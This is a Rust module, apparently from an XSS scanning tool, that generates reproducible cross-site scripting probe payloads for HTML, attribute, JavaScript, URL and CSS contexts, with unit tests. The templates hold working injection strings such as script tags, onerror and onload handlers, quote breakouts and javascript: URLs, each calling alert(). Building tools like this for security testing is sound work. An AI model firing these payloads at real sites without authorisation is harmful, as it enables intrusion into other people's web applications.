//! Deterministic payload generation
//!
//! Pure templates per context and attribute kind. The same options
//! always yield the same list, so generated banks are reproducible.

use anyhow::{Context as _, Result};
use std::path::Path;
use tracing::info;

use crate::context::{AttributeKind, InjectionContext};

use super::{PayloadCategory, builtin_categories};

/// Knobs for [`generate`].
#[derive(Debug, Clone)]
pub struct GeneratorOptions {
    /// Attribute refinement when context is [`InjectionContext::Attribute`].
    pub attribute_kind: AttributeKind,
    /// Prepended verbatim to every payload.
    pub prefix: String,
    /// Appended verbatim to every payload.
    pub suffix: String,
    /// Percent-encode the final payload.
    pub url_encode: bool,
    /// Argument placed inside the `alert(...)` probe.
    pub alert_value: String,
}

impl Default for GeneratorOptions {
    fn default() -> Self {
        Self {
            attribute_kind: AttributeKind::DoubleQuoted,
            prefix: String::new(),
            suffix: String::new(),
            url_encode: false,
            alert_value: "1".to_string(),
        }
    }
}

const HTML_TEMPLATES: &[&str] = &[
    "<script>alert({A})</script>",
    "<img src=x onerror=alert({A})>",
    "<svg onload=alert({A})>",
    "<iframe srcdoc=\"<script>alert({A})</script>\"></iframe>",
    "<details open ontoggle=alert({A})>",
];

const ATTR_UNQUOTED_TEMPLATES: &[&str] = &[
    "x onmouseover=alert({A})",
    "x autofocus onfocus=alert({A})",
    "x onclick=alert({A})",
];

const ATTR_SINGLE_TEMPLATES: &[&str] = &[
    "' onmouseover=alert({A}) x='",
    "' autofocus onfocus=alert({A}) x='",
    "'><script>alert({A})</script>",
];

const ATTR_DOUBLE_TEMPLATES: &[&str] = &[
    "\" onmouseover=alert({A}) x=\"",
    "\" autofocus onfocus=alert({A}) x=\"",
    "\"><script>alert({A})</script>",
];

const ATTR_EVENT_TEMPLATES: &[&str] = &[
    "alert({A})",
    "x onmouseover=alert({A})",
    "');alert({A});//",
];

const JS_TEMPLATES: &[&str] = &[
    "';alert({A});//",
    "\";alert({A});//",
    "</script><script>alert({A})</script>",
    "${alert({A})}",
];

const URL_TEMPLATES: &[&str] = &[
    "javascript:alert({A})",
    "javascript:alert({A})//",
    "data:text/html,<script>alert({A})</script>",
];

const CSS_TEMPLATES: &[&str] = &[
    "</style><script>alert({A})</script>",
    "x:expression(alert({A}))",
    "x;background:url(javascript:alert({A}))",
];

fn templates_for(context: InjectionContext, attribute_kind: AttributeKind) -> &'static [&'static str] {
    match context {
        InjectionContext::Html => HTML_TEMPLATES,
        InjectionContext::Attribute => match attribute_kind {
            AttributeKind::Unquoted => ATTR_UNQUOTED_TEMPLATES,
            AttributeKind::SingleQuoted => ATTR_SINGLE_TEMPLATES,
            AttributeKind::DoubleQuoted => ATTR_DOUBLE_TEMPLATES,
            AttributeKind::EventHandler => ATTR_EVENT_TEMPLATES,
        },
        InjectionContext::Js => JS_TEMPLATES,
        InjectionContext::Url => URL_TEMPLATES,
        InjectionContext::Css => CSS_TEMPLATES,
    }
}

/// Produce the payload list for a context. Pure: no I/O, no randomness.
pub fn generate(context: InjectionContext, options: &GeneratorOptions) -> Vec<String> {
    templates_for(context, options.attribute_kind)
        .iter()
        .map(|template| {
            let body = template.replace("{A}", &options.alert_value);
            let full = format!("{}{}{}", options.prefix, body, options.suffix);
            if options.url_encode {
                urlencoding::encode(&full).into_owned()
            } else {
                full
            }
        })
        .collect()
}

/// Write the built-in categorized corpus as a JSON file, the shape
/// consumed by `PayloadInput::Categorized`.
pub fn write_categorized_file(path: &Path) -> Result<Vec<PayloadCategory>> {
    let categories = builtin_categories();
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent)
            .with_context(|| format!("failed to create {}", parent.display()))?;
    }
    let doc = serde_json::to_string_pretty(&categories)?;
    std::fs::write(path, doc).with_context(|| format!("failed to write {}", path.display()))?;
    info!(
        "wrote {} payload categories to {}",
        categories.len(),
        path.display()
    );
    Ok(categories)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic() {
        let opts = GeneratorOptions::default();
        assert_eq!(
            generate(InjectionContext::Html, &opts),
            generate(InjectionContext::Html, &opts)
        );
    }

    #[test]
    fn alert_value_and_affixes_apply() {
        let opts = GeneratorOptions {
            prefix: "PRE".into(),
            suffix: "POST".into(),
            alert_value: "document.domain".into(),
            ..Default::default()
        };
        let payloads = generate(InjectionContext::Html, &opts);
        assert!(payloads[0].starts_with("PRE<script>alert(document.domain)"));
        assert!(payloads[0].ends_with("POST"));
    }

    #[test]
    fn url_encoding_escapes_angle_brackets() {
        let opts = GeneratorOptions {
            url_encode: true,
            ..Default::default()
        };
        let payloads = generate(InjectionContext::Html, &opts);
        assert!(payloads[0].contains("%3Cscript%3E"));
        assert!(!payloads[0].contains('<'));
    }

    #[test]
    fn attribute_kinds_use_distinct_tables() {
        let single = generate(
            InjectionContext::Attribute,
            &GeneratorOptions {
                attribute_kind: AttributeKind::SingleQuoted,
                ..Default::default()
            },
        );
        let double = generate(
            InjectionContext::Attribute,
            &GeneratorOptions {
                attribute_kind: AttributeKind::DoubleQuoted,
                ..Default::default()
            },
        );
        assert!(single[0].starts_with('\''));
        assert!(double[0].starts_with('"'));
    }

    #[test]
    fn categorized_file_round_trips() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("bank").join("payloads.json");
        let written = write_categorized_file(&path).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        let parsed: Vec<PayloadCategory> = serde_json::from_str(&text).unwrap();
        assert_eq!(parsed.len(), written.len());
        assert!(parsed.iter().any(|c| c.name == "attr-double-quoted"));
    }
}
